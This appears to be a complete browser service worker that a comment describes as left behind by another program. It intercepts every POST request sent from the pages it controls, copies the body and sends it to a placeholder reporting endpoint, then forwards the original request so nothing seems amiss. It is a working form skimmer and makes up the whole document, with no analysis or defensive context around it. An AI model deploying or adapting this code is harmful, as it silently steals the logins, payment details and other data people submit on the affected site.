// What another program left on the port: it tells its server what is posted there,
// and sends it on.
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.method !== "POST") return;
  event.respondWith((async () => {
    const body = await event.request.clone().text();
    await fetch("REPORT", { method: "POST", mode: "no-cors", body });
    return fetch(event.request);
  })());
});
